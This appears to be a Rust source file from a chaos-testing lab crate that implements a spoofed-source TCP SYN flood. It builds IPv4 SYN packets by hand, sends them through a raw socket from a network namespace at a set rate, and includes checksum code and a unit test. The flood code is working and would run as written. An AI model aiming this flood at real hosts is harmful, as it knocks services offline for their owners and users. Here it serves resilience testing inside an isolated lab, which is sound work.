//! A TCP SYN flood from a lab namespace, for the chaos tests: IPv4 SYNs built by hand and sent
//! through a raw socket (`IPPROTO_RAW`, so the IP header is ours), with source addresses and
//! ports that change with every packet, so the target keeps a half-open connection for each
//! (or answers with SYN cookies) and nothing ever completes. The sender runs on its own OS
//! thread inside the namespace ([`weft_lab::in_netns`]).

use anyhow::{bail, Result};
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

/// Sends SYNs to `target:port` from namespace `ns` for `duration`, at most `rate` per second,
/// with source addresses drawn from `sources` (a /24's first three octets, hosts .100 to .253:
/// addresses nobody in the lab has, so the answers go nowhere)
/// and random source ports. Returns how many were sent. Blocks the calling thread.
pub fn syn_flood(
    ns: &str,
    target: Ipv4Addr,
    port: u16,
    sources: [u8; 3],
    rate: u32,
    duration: Duration,
) -> Result<u64> {
    weft_lab::in_netns(ns, move || send_syns(target, port, sources, rate, duration))?
}

fn send_syns(
    target: Ipv4Addr,
    port: u16,
    sources: [u8; 3],
    rate: u32,
    duration: Duration,
) -> Result<u64> {
    // SAFETY: plain socket(2) call with constant arguments; the descriptor is checked below and
    // closed at the end of this function.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        bail!("raw socket: {}", std::io::Error::last_os_error());
    }
    let dst = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(target).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mut x: u64 = 0x2545_f491_4f6c_dd1d ^ u64::from(std::process::id());
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let start = Instant::now();
    let gap = Duration::from_secs(1) / rate.max(1);
    let mut sent = 0u64;
    while start.elapsed() < duration {
        let r = next();
        let src = Ipv4Addr::new(sources[0], sources[1], sources[2], 100 + (r % 154) as u8);
        let packet = syn_packet(
            src,
            target,
            1024 + (r >> 16) as u16 % 60000,
            port,
            (r >> 32) as u32,
        );
        // SAFETY: the buffer and the address are valid for the lengths given; fd is open.
        let n = unsafe {
            libc::sendto(
                fd,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&dst as *const libc::sockaddr_in).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if n == packet.len() as isize {
            sent += 1;
        }
        let due = gap * u32::try_from(sent.min(u64::from(u32::MAX))).unwrap_or(u32::MAX);
        if let Some(wait) = due.checked_sub(start.elapsed()) {
            std::thread::sleep(wait);
        }
    }
    // SAFETY: fd is the socket opened above, closed once.
    unsafe { libc::close(fd) };
    Ok(sent)
}

/// An IPv4 packet holding a TCP SYN (no options), checksums filled in.
pub fn syn_packet(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[4..6].copy_from_slice(&(seq as u16).to_be_bytes());
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.octets());
    let c = checksum(&p[..20], 0);
    p[10..12].copy_from_slice(&c.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02;
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = 0u32;
    for w in [src.octets(), dst.octets()] {
        pseudo += u32::from(u16::from_be_bytes([w[0], w[1]]));
        pseudo += u32::from(u16::from_be_bytes([w[2], w[3]]));
    }
    pseudo += 6 + 20;
    let c = checksum(t, pseudo);
    t[16..18].copy_from_slice(&c.to_be_bytes());
    p
}

/// The Internet checksum of `data`, starting from the partial sum `sum`.
fn checksum(data: &[u8], mut sum: u32) -> u16 {
    for w in data.chunks(2) {
        sum += u32::from(u16::from_be_bytes([w[0], *w.get(1).unwrap_or(&0)]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_checks_out() {
        let src = Ipv4Addr::new(10, 201, 0, 7);
        let dst = Ipv4Addr::new(10, 200, 0, 11);
        let p = syn_packet(src, dst, 40000, 6783, 0x0102_0304);
        // A correct checksum sums to zero over the header (and over the segment plus the
        // pseudo-header).
        assert_eq!(checksum(&p[..20], 0), 0);
        // The pseudo-header: both addresses as 16-bit words, the protocol and the TCP length.
        let pseudo = 0x0ac9 + 0x0007 + 0x0ac8 + 0x000b + 6 + 20;
        assert_eq!(checksum(&p[20..], pseudo), 0);
        assert_eq!(p[33], 0x02, "SYN only");
        assert_eq!(u16::from_be_bytes([p[22], p[23]]), 6783);
    }
}
